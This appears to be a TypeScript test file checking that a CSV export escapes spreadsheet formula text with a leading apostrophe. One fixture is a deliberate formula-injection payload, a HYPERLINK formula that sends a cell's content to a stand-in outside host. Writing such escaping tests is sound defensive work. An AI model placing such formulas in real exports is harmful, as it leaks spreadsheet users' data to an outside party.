/**
 * The CSV export read back by a CSV parser: text a spreadsheet would run as a formula reads as
 * text, everything else exactly as in the JSON export. Rendered from the fixture content, with
 * one tool's texts made dangerous on purpose.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { site } from '../../src/api/documents.ts';
import { exportedTools, renderCsv, spreadsheetText } from '../../src/api/exports.ts';
import { loadDirectory } from '../../src/content/load.ts';
import { FIXTURE_BASE, FIXTURE_CONTENT } from '../helpers/sites.ts';

const tools = exportedTools(site(loadDirectory(FIXTURE_CONTENT).directory, FIXTURE_BASE));
const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { bom: true, columns: true });

describe('spreadsheetText', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['-50 % pour les écoles', "'-50 % pour les écoles"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Café Quiz', 'Café Quiz'],
    ['a = b - c', 'a = b - c'],
    ['', ''],
    [-1, -1],
    [true, true],
    [null, null],
  ])('%j → %j', (value, expected) => {
    expect(spreadsheetText(value)).toBe(expected);
  });
});

describe('CSV export', () => {
  it('gives text that starts like a formula an apostrophe, in every text column, and leaves the other rows alone', () => {
    const [first, ...others] = tools;
    const dangerous = {
      ...first,
      name: '=HYPERLINK("https://exemple.org/?vol="&A1;"Cliquez")',
      short_description: '-50 % pour les écoles.',
      vendor: '@Éditions',
      long_description: '+ une liste\n- en Markdown',
    };
    const [row, ...rest] = rowsOf(renderCsv([dangerous, ...others]));
    expect({ name: row.name, short_description: row.short_description, vendor: row.vendor, long_description: row.long_description }).toEqual({
      name: `'${dangerous.name}`,
      short_description: "'-50 % pour les écoles.",
      vendor: "'@Éditions",
      long_description: "'+ une liste\n- en Markdown",
    });
    expect(rest).toEqual(rowsOf(renderCsv(others)));
  });
});
